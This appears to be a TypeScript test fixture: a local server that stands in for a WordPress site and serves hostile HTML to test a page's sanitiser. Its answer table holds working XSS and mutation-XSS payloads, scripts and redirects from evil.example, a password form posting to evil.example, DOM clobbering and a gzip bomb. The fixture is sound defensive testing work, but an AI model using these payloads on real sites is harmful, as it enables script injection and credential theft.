import { createServer, type IncomingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';

interface Answer {
  body?: string | Buffer;
  type?: string | null;
  status?: number;
  headers?: Record<string, string>;
  /** Another way to answer than to send the body and be done. */
  act?: (response: ServerResponse, origin: string) => void;
  /** What must be left of it on the page; nothing, unless told. */
  left?: string;
}

const OPEN = { 'access-control-allow-origin': '*' };
const hit = 'window.hit=1';

/** What the other site may answer, by the slot it is asked for. */
export const ANSWERS: Record<string, Answer> = {
  plain: {
    body: '<div><h3>Une annonce</h3><p>Bonjour</p><a href="https://exemple.fr/x">Lire</a></div><div>Une autre</div>',
    left: 'Une annonce',
  },
  scripts: {
    body: `<div>Texte<script>${hit}</script><script src="//evil.example/x.js"></script><img src=x onerror="${hit}"><p onclick="${hit}" onmouseover="${hit}">a</p></div>`,
    left: 'Texte',
  },
  'script-links': {
    body: `<div>Texte<a href="javascript:${hit}">a</a><a href="JaVa&#9;ScRiPt:${hit}">b</a><a href="data:text/html,<script>${hit}</script>">c</a><a href="vbscript:x">d</a><a href="//evil.example">e</a></div>`,
    left: 'Texte',
  },
  styles: {
    body: '<div>Texte<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css"><p style="position:fixed;inset:0" class="shell" id="contenu">x</p></div>',
    left: 'Texte',
  },
  frames: {
    body: `<div>Texte<iframe src="/"></iframe><iframe srcdoc="<script>parent.${hit}</script>"></iframe><object data="/"></object><embed src="/"><video src=x onerror="${hit}"></video></div>`,
    left: 'Texte',
  },
  head: {
    body: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><title>Volé</title><div>Texte<meta http-equiv=refresh content="0;url=/contact"><base href="/x/"></div>',
    left: 'Texte',
  },
  forms: {
    body: '<div>Texte<form action="https://evil.example"><input name=password type=password autofocus><button>Entrer</button></form></div>',
    left: 'Texte',
  },
  vectors: {
    body: `<div>Texte<svg onload="${hit}"><use href="data:image/svg+xml,x"></use><foreignObject><img src=x onerror="${hit}"></foreignObject></svg></div>`,
    left: 'Texte',
  },
  'two-readings': {
    body: `<div>Texte<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript><template><img src=x onerror="${hit}"></template></div>`,
    left: 'Texte',
  },
  clobbering: {
    body: '<div>Texte<a id=defaultView name=navigator></a><img name=body><p id=root>x</p><span slot=x is=y part=z data-ready=false aria-hidden=true>y</span></div>',
    left: 'Texte',
  },
  unclosed: { body: '<div>Texte<a href="https://exemple.fr/', left: 'Texte' },
  deep: { body: `${'<div>'.repeat(9000)}Texte`, left: 'Texte' },
  'odd-bytes': { body: Buffer.from('<div>Te\0xte \xff\xfe\u202e</div>', 'latin1'), left: 'xte' },
  'no-box': { body: '<p>Sans boîte</p>' },
  'empty-box': { body: '<div><script>x</script></div>' },
  empty: { body: '' },
  huge: { body: `<div>${'x'.repeat(200_000)}</div>` },
  bomb: { body: gzipSync(`<div>${'x'.repeat(20_000_000)}</div>`), headers: { 'content-encoding': 'gzip' } },
  javascript: { body: '<div>Texte</div>', type: 'application/javascript' },
  json: { body: '{"html":"<div>Texte</div>"}', type: 'application/json' },
  drawing: { body: '<svg xmlns="http://www.w3.org/2000/svg"><div>Texte</div></svg>', type: 'image/svg+xml' },
  'no-type': { body: '<div>Texte</div>', type: null },
  failed: { body: '<div>Texte</div>', status: 500 },
  missing: { body: '<div>Texte</div>', status: 404 },
  'not-allowed': { body: '<div>Texte</div>', headers: { 'access-control-allow-origin': 'https://evil.example' } },
  elsewhere: {
    // The same server by another name: an origin that no page of ours may ask.
    act: (response, origin) =>
      response.writeHead(302, { ...OPEN, location: `${origin.replace('127.0.0.1', 'localhost')}/?slot=plain` }).end(),
  },
  silent: { act: () => {} },
  dripping: {
    act: (response) => {
      response.writeHead(200, { ...OPEN, 'content-type': 'text/html' }).write('<div>Texte');
      const drip = setInterval(() => response.write('x'), 50);
      response.on('close', () => clearInterval(drip));
    },
  },
  cut: {
    act: (response) => {
      response.writeHead(200, { ...OPEN, 'content-type': 'text/html', 'content-length': '4000' });
      response.write('<div>Texte</div>', () => response.destroy());
    },
  },
};

export interface StandIn {
  url: string;
  /** The headers of what it was asked so far, by slot. */
  asked: Map<string, IncomingHttpHeaders>;
  close(): void;
}

/** Stands for the house's WordPress site, on an origin of its own: each slot is another way to answer. */
export function startStandIn(): Promise<StandIn> {
  const asked: StandIn['asked'] = new Map();
  const server = createServer((request, response) => {
    const { searchParams, origin } = new URL(request.url ?? '/', url());
    const slot = searchParams.get('slot') ?? '';
    asked.set(slot, request.headers);
    const { body = '', type = 'text/html; charset=utf-8', status = 200, headers = {}, act } = ANSWERS[slot] ?? {};
    if (act) return act(response, origin);
    response.writeHead(status, { ...OPEN, ...(type ? { 'content-type': type } : {}), ...headers }).end(body);
  });
  const url = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ url: `${url()}/wp-admin/admin-ajax.php`, asked, close })),
  );
}
